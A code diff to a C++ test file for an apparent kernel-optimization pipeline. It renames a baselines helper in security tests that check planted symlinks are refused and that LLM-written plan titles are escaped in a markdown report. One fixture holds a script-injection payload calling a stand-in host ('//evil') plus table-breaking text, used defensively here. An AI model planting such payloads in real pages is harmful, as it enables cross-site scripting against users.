@@ -37,11 +37,6 @@ std::string StageErrorOf(const std::string& stage, const json& with, const fs::p
   return "";
 }
 
-json Baselines(const fs::path& kernel) {
-  return {{"silu_M256_N1024", {{"ok", true}, {"latency_ms", 1.0}, {"problem", "silu"}, {"kernel", kernel.string()},
-                               {"values", {{"M", 256}, {"N", 1024}}}}}};
-}
-
 }  // namespace
 
 TEST_CASE("score: a planted optimize/records.jsonl link is refused, nothing appended through it", "[optimize][security]") {
@@ -77,7 +72,7 @@ TEST_CASE("optimize_results: a planted best/ link does not receive the winning k
   TempDir outside;
   fs::create_directory_symlink(outside.path(), dir.path() / "best");
   json best = {{"silu_M256_N1024", {{"id", "w"}, {"origin", "executor"}, {"latency_ms", 0.5}, {"kernel", winner_file.string()}}}};
-  json out = RunStage("optimize_results", {{"baselines", Baselines(base)}, {"best", best}}, dir.path());
+  json out = RunStage("optimize_results", {{"baselines", SiluBaselines(base)}, {"best", best}}, dir.path());
   CHECK(fs::is_empty(outside.path()));
   // The row keeps the kernel where it was instead of a copy outside the run.
   CHECK(out["rows"][0]["kernel"] == winner_file.string());
@@ -91,7 +86,7 @@ TEST_CASE("optimize_results.md escapes HTML and table syntax from LLM plan title
                               {{"title", "<script>fetch('//evil')</script> | fake | cells\nnew row"}}});
   json best = {{"silu_M256_N1024", {{"id", "w<b>"}, {"origin", "executor"}, {"latency_ms", 0.5},
                                     {"kernel", winner_file.string()}, {"history", history}}}};
-  RunStage("optimize_results", {{"baselines", Baselines(base)}, {"best", best}}, dir.path());
+  RunStage("optimize_results", {{"baselines", SiluBaselines(base)}, {"best", best}}, dir.path());
   std::string md = Slurp(dir.path() / "optimize_results.md");
   INFO(md);
   CHECK(md.find("<img") == std::string::npos);
